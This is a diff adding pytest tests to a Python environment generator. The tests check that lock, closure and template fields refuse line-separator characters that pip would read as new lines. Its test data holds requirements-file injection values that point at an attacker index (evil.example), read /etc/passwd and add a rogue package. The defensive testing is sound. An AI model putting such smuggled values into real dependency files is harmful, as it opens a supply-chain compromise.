@@ -260,3 +260,51 @@ def test_a_git_reference_to_a_commit_the_repo_lacks_says_so(tmp_path, monkeypatc
     with pytest.raises(InputError) as e:
         archive("g", (tmp_path / "nope").as_uri(), "e" * 40)
     assert "git clone failed: fatal:" in e.value.message
+
+
+@pytest.mark.parametrize("field,value", [
+    ("resolver", "uv\n--extra-index-url https://evil.example/simple"),
+    ("resolver", "uv\u2028--trusted-host evil.example"),
+    ("platform", "manylinux_2_36_x86_64\n-r /etc/passwd"),
+    ("hash_note", "none\u2028--index-url https://evil.example/simple\u2028evilpkg==6.6.6"),
+    ("hash_note", "none\x85evilpkg==6.6.6"),
+])
+def test_a_closure_value_that_would_start_a_line_in_requirements_txt_is_refused(field, value):
+    """pip reads a requirements file with str.splitlines(): U+2028 and NEL end a line there,
+    so a comment carrying one became a live option or package. A closure (a lock's, the
+    cache's) is refused; the templates refuse such text too, whatever reaches them."""
+    from envgen.resolve.closure import parse_closure
+    data = {"closure_version": 1, "key": "f" * 64, "created": "2026-12-01T00:00:00Z",
+            "inputs": {"requirements": ["six"], "platform": "manylinux_2_36_x86_64",
+                       "python": "3.11"}, "resolver": "uv 0.13.9",
+            "packages": [{"name": "six", "version": "1.16.0", "file": None, "hashes": [],
+                          "hash_note": "the index serves no sha256"}]}
+    if field == "platform":
+        data["inputs"]["platform"] = value
+    elif field == "hash_note":
+        data["packages"][0]["hash_note"] = value
+    else:
+        data[field] = value
+    with pytest.raises(InputError, match="not a valid closure"):
+        parse_closure(data, "closure.json")
+
+
+def test_the_templates_refuse_a_line_break_of_any_kind_inside_one_line():
+    from envgen.render.env import dockerquote, line, sh
+    for bad in ("a\u2028b", "a\x85b", "a\nb", "a\x0bb", "a\x00b"):
+        for f in (line, sh, dockerquote):
+            with pytest.raises(ValueError):
+                f(bad)
+    assert line("uv 0.13.9, uv pip compile") == "uv 0.13.9, uv pip compile"
+
+
+def test_a_lock_hash_note_or_a_matrix_why_with_u2028_is_refused(tmp_path):
+    data = lock_text()
+    req = data["stacks"]["pytorch-cu121"]["requirements"][0]
+    req.update(hashes=[], hash_note="x\u2028evilpkg==6.6.6")
+    with pytest.raises(InputError, match="hash_note must be one short line"):
+        read_lock(write(tmp_path, data))
+    import re
+
+    from envgen.matrix.schema import WHY
+    assert re.search(WHY["pattern"], "a reason") and not re.search(WHY["pattern"], "a\u2028b")
